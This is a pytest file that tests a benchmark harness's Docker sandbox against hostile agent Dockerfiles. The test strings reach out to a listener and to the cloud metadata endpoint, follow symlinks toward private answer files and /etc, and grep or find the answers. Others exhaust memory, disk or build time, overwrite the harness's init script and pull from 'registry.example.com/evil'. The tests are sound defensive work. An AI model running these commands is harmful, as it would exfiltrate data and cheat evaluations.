"""Attacks while an image is built: a Dockerfile runs as root before any sandbox exists."""

from __future__ import annotations

import os
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import docker
import pytest

from pytest_mlebench import defaults
from pytest_mlebench.agents import Agent
from pytest_mlebench.errors import SandboxError
from pytest_mlebench.progress import event_text
from pytest_mlebench.sandbox.docker.images import BuildNetwork, Images
from tests.sandbox.hostile.listener import Listener
from tests.sandbox.scripted import ENGINE, docker_sandbox, script_agent

pytestmark = pytest.mark.docker


@pytest.fixture
def client(docker_engine: None) -> Iterator[docker.DockerClient]:
    client = docker.from_env()
    yield client
    for image in client.images.list(filters={"label": "mlebench.image=mlebench-agent-builder"}):
        client.images.remove(str(image.id), force=True)
    client.close()


@pytest.fixture
def agent(tmp_path: Path) -> Agent:
    folder = tmp_path / "agents/builder"
    folder.mkdir(parents=True)
    (folder / "start.sh").write_text("true\n")
    private = tmp_path / "private"
    private.mkdir()
    (private / "answers.csv").write_text("ANSWER-7f3a")
    return replace(script_agent(), folder=folder, start=folder / "start.sh", dockerfile=folder / "Dockerfile")


def build(client: docker.DockerClient, agent: Agent, *commands: str, network: BuildNetwork = "full") -> list[str]:
    """What building printed. Each Dockerfile is new, so that nothing comes from a cache."""
    lines: list[str] = []
    agent.dockerfile.write_text(
        "\n".join(
            [f"FROM mlebench-env\nENV NONCE={uuid.uuid4().hex}", "COPY . /context", *map("RUN {}".format, commands)]
        )
    )
    docker_sandbox().images.environment()  # type: ignore[attr-defined]
    Images(client, reporter=lambda event: lines.append(event_text(event)), build_network=network).agent(agent)
    return lines


def reach(*urls: str) -> str:
    """Prints `status URL` for each; 000 where there is no connection."""
    return (
        f'for url in {" ".join(urls)}; do curl -s -m 3 -o /dev/null -w "status %{{http_code}} $url\\n" $url; done; true'
    )


def statuses(lines: list[str]) -> set[str]:
    return {line.split()[1] for line in lines if line.startswith("status ")}


def test_a_dockerfile_wants_to_send_the_folder_out_without_a_network(
    client: docker.DockerClient, agent: Agent, listener: Listener
) -> None:
    urls = [f"http://{host}:{listener.port}/" for host in (*listener.addresses, "host.docker.internal")]
    lines = build(
        client, agent, reach(*urls, "https://example.com/"), "ls /sys/class/net | sed s/^/net./", network="none"
    )
    assert statuses(lines) == {"000"} and not listener.callers
    assert [line for line in lines if line.startswith("net.")] == ["net.lo"]


@pytest.mark.skipif(ENGINE == "podman", reason="Podman's builder has no such network, and says so")
def test_a_dockerfile_wants_more_than_registries(client: docker.DockerClient, agent: Agent, listener: Listener) -> None:
    direct = reach("https://example.com/", "http://example.com/", "http://169.254.169.254/latest/meta-data/")
    lines = build(
        client,
        agent,
        direct,
        direct.replace("curl", "curl --noproxy '*'"),
        reach(*(f"http://{host}:{listener.port}/" for host in listener.addresses if host.startswith("127."))),
        "getent hosts example.com && echo status resolved; true",
        network="registries",
    )
    assert statuses(lines) <= {"000", "403"} and not listener.callers


@pytest.mark.parametrize("link", ["../../private", "../../private/answers.csv", "/etc"])
def test_an_agent_folder_wants_the_answers_in_its_image(client: docker.DockerClient, agent: Agent, link: str) -> None:
    (agent.folder / "data").symlink_to(link)
    with pytest.raises(SandboxError, match="a link that leaves the agent's folder"):
        build(client, agent, "grep -r ANSWER /context")


def test_a_dockerfile_wants_files_from_above_its_folder(client: docker.DockerClient, agent: Agent) -> None:
    agent.dockerfile.write_text("FROM mlebench-env\nCOPY ../../private /private\n")
    with pytest.raises(SandboxError, match="does not build"):
        Images(client).agent(agent)
    lines = build(
        client, agent, "find / -xdev -name 'answers*' | sed s/^/found./", "ls -A /context | sed s/^/context./"
    )
    assert [line for line in lines if line.startswith(("found.", "context."))] == [
        "context.Dockerfile",
        "context.start.sh",
    ]


def test_a_dockerfile_wants_all_memory(
    client: docker.DockerClient, agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(defaults, "BUILD_MEMORY", 64 << 20)
    with pytest.raises(SandboxError, match="does not build"):
        build(client, agent, "python3 -c 'x = bytearray(1 << 29); print(\"had it\")'")


def test_a_dockerfile_wants_to_build_for_ever(
    client: docker.DockerClient, agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(defaults, "BUILD_SECONDS", 3.0)
    with pytest.raises(SandboxError, match="takes longer than 3 seconds"):
        build(client, agent, "while true; do echo still building; sleep 0.1; done")


def test_a_dockerfile_wants_the_whole_disk(
    client: docker.DockerClient, agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = int(client.images.get(docker_sandbox().images.environment()).attrs["Size"])  # type: ignore[attr-defined]
    monkeypatch.setattr(defaults, "IMAGE_BYTES", base + (20 << 20))
    with pytest.raises(SandboxError, match=r"image mlebench-agent-builder:.* may have"):
        build(client, agent, "head -c 64M /dev/urandom > /fill")


def test_a_dockerfile_wants_to_replace_the_first_process(client: docker.DockerClient, agent: Agent) -> None:
    lines = build(client, agent, "echo '#!/bin/sh' > /opt/mlebench/init.py")
    assert lines  # that the harness's own runs all the same is tested with outcomes


FETCHES = {
    "a URL": "ADD https://example.com/x /x",
    "a URL in a list": 'ADD ["https://example.com/x", "/x"]',
    "a URL in quotes": 'ADD h"ttps:/"/example.com/x /x',
    "a URL in a variable": "ENV A=https://example.com/x\nADD $A /x",
    "a URL after a flag": "ADD --chown=1:1 HTTP://example.com/x /x",
    "a URL over two lines": "ADD \\\n# a remark\n\n  https://example.com/x /x",
    "a URL with an escape of its own": "ADD `\n https://example.com/x /x",
    "an image": "FROM registry.example.com/evil",
    "an image in a variable": "ARG X=registry.example.com/evil\nFROM $X",
    "an image for another platform": "FROM --platform=linux/arm64 registry.example.com/evil AS x",
    "an image to copy from": "COPY --from=registry.example.com/evil /x /x",
}


@pytest.mark.parametrize("network", ["none", "registries"])
@pytest.mark.parametrize("what", FETCHES)
def test_a_dockerfile_wants_the_engine_to_fetch(
    what: str, network: BuildNetwork, client: docker.DockerClient, agent: Agent
) -> None:
    first = "# escape=`\n" if "escape" in what else ""
    agent.dockerfile.write_text(f"{first}FROM mlebench-env AS base\nCOPY --from=0 /etc/hostname /x\n{FETCHES[what]}\n")
    with pytest.raises(SandboxError, match=rf"build-network={network} the engine fetches nothing.*(ADD|FROM|COPY) of"):
        Images(client, build_network=network).agent(agent)


@pytest.mark.skipif(ENGINE == "podman", reason="Podman does not tell what an image's ONBUILD is: see SECURITY.md")
def test_a_base_image_wants_the_engine_to_fetch_when_it_is_built_on(client: docker.DockerClient, agent: Agent) -> None:
    name, version = "mlebench-agent-builder-base", uuid.uuid4().hex
    base = f"{name}:{version}"
    agent.dockerfile.write_text("FROM mlebench-env\nONBUILD ADD https://example.com/x /x\n")
    tag = Images(client, build_network="none").agent(agent)  # this fetches nothing yet
    client.images.get(tag).tag(name, version)
    agent.dockerfile.write_text(f"FROM {base}\n")
    try:
        with pytest.raises(SandboxError, match=r"ADD of 'https://example.com/x'.*\(an ONBUILD of"):
            Images(client, build_network="none").agent(agent)
    finally:
        client.images.remove(base)


@pytest.mark.parametrize("name", ["names", "patterns", "text of .dockerignore"])
def test_an_agent_folder_wants_to_break_the_harness_with_its(
    name: str, client: docker.DockerClient, agent: Agent
) -> None:
    if name == "names":
        (agent.folder / os.fsdecode(b"\xff\n\x1b[2J")).write_text("x")
        (agent.folder / "Dockerfile.mlebench").write_text("FROM registry.example.com/evil\n")
        os.mkfifo(agent.folder / "pipe")
    else:
        patterns = b"!\n**\\\n[\n[z-a]\n***/**\n# x\n"
        (agent.folder / ".dockerignore").write_bytes(patterns if name == "patterns" else b"\xff\xfe\n")
    try:
        lines = build(client, agent, "echo built")
    except SandboxError as error:
        assert "does not build" in str(error) or "cannot be packed" in str(error)
    else:
        assert "built" in lines
